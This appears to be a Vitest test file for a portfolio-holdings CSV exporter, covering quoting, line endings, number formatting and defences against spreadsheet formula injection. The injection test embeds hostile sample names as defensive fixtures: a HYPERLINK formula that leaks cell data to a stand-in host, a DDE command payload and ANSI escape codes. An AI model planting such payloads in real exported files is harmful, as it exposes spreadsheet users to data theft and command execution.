import { describe, it, expect } from 'vitest';
import { renderHoldingsCsv } from '../../src/render/csv.js';
import { makeReport } from './fixture.js';

/** A small independent RFC 4180 parser for the round trip. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe('renderHoldingsCsv', () => {
  const csv = renderHoldingsCsv(makeReport());
  const lines = csv.split('\r\n');

  it('writes one header row and one CRLF-terminated row per holding', () => {
    expect(lines[0]).toBe(
      'symbol,name,currency,shares,price,dayChangePct,marketValue,weight,costBasis,unrealizedGain,unrealizedGainPct,vsBenchmark,source',
    );
    expect(lines).toHaveLength(5);
    expect(lines[4]).toBe('');
    expect(csv).not.toMatch(/[^\r]\n/);
  });

  it('writes raw numbers, negative numbers bare and nulls empty', () => {
    expect(lines[1]).toBe('AAPL,Apple Inc.,USD,10,187.44,0.0123,1874.4,0.2234,1500,374.4,0.2496,0.032,live');
    expect(lines[2]).toBe(
      'VWRL.L,Vanguard FTSE All-World UCITS ETF USD Distributing,GBp,50,10234.5,-0.0045,6498.91,0.7747,5000,1498.91,0.2998,-0.0149,cache',
    );
    expect(lines[3]).toBe('XYZ,Evil | *Corp*,USD,1234.5678,0.0123,,15.19,0.0018,,,,,stale');
  });

  it('neutralises formula injection and escape sequences in names', () => {
    const report = makeReport();
    report.holdings[0]!.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    report.holdings[1]!.name = "@SUM(1+1)*cmd|' /C calc'!A0";
    report.holdings[2]!.name = '\x1b[31m-2+3\x1b[0m, "quoted"\nnext';
    const rows = parseCsv(renderHoldingsCsv(report));
    expect(rows.every((r) => r.length === 13)).toBe(true);
    expect(rows[1]![1]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(rows[2]![1]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(rows[3]![1]).toBe('\'-2+3, "quoted" next');
    const raw = renderHoldingsCsv(report);
    expect(raw).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
    expect(raw).not.toMatch(/\x1b/);
  });

  it('writes NaN and Infinity as empty fields, never as text', () => {
    const report = makeReport();
    report.holdings[0]!.weight = NaN;
    report.holdings[0]!.vsBenchmark = Infinity;
    const row = parseCsv(renderHoldingsCsv(report))[1]!;
    expect(row[7]).toBe('');
    expect(row[11]).toBe('');
  });

  it('writes only the header for no holdings', () => {
    expect(renderHoldingsCsv(makeReport({ holdings: [] })).split('\r\n')).toHaveLength(2);
  });
});
